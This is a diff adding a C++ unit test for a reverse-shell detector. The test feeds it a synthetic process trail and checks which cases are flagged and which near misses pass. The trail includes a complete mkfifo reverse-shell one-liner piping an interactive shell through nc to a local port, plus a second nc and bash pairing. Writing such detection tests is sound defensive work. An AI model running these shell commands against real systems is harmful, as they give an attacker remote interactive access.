@@ -113,3 +113,30 @@ TEST_CASE("reverse-shell: bounded waiting (dropped shells counted), grace after 
   CHECK_NOTHROW(hostile.on_event(bad));
   CHECK(hostile.finish().empty());
 }
+
+TEST_CASE("reverse-shell: the mkfifo form, an interactive shell whose output pipe nc reads and connects") {
+  synth::Trail t;
+  t.exec(1, 0, "/usr/bin/dash", {"sh", "-c", "cat /tmp/f | sh -i 2>&1 | nc 127.0.0.1 4444 > /tmp/f"});
+  auto sh = t.exec(3, 1, "/usr/bin/dash", {"sh", "-i"}, synth::pipes(500, 501));
+  auto nc = t.exec(4, 1, "/usr/bin/nc.openbsd", {"nc", "127.0.0.1", "4444"}, synth::pipes(501, 0));
+  auto c = connect(t, 4, 40100, 4444);
+  // the reader first, then the shell
+  t.exec(13, 1, "/usr/bin/nc.openbsd", {"nc", "127.0.0.1", "4445"}, synth::pipes(601, 0));
+  auto c2 = connect(t, 13, 40101, 4445);
+  auto sh2 = t.exec(12, 1, "/usr/bin/bash", {"bash", "-li"}, synth::pipes(600, 601));
+  // near misses: a script's output piped to a network client; `sh -ic` runs its commands from argv
+  t.exec(21, 1, "/usr/bin/dash", {"sh", "report.sh"}, synth::pipes(0, 700));
+  t.exec(22, 1, "/usr/bin/curl", {"curl", "-T", "-", "https://x.test"}, synth::pipes(700, 0));
+  connect(t, 22, 40102, 443);
+  t.exec(23, 1, "/usr/bin/bash", {"bash", "-ic", "make"}, synth::pipes(0, 800));
+  t.exec(24, 1, "/usr/bin/nc", {"nc", "x.test", "9"}, synth::pipes(800, 0));
+  connect(t, 24, 40103, 9);
+  auto fs = t.findings();
+  REQUIRE(fs.size() == 2);
+  CHECK(fs[0]["exec_ids"] == json::array({3}));
+  CHECK(fs[0]["evidence"] == json::array({sh, c}));
+  CHECK(fs[0]["title"].get<std::string>().find("nc.openbsd (exec 4)") != std::string::npos);
+  CHECK(fs[1]["exec_ids"] == json::array({12}));
+  CHECK(fs[1]["evidence"] == json::array({c2, sh2}));
+  (void)nc;
+}
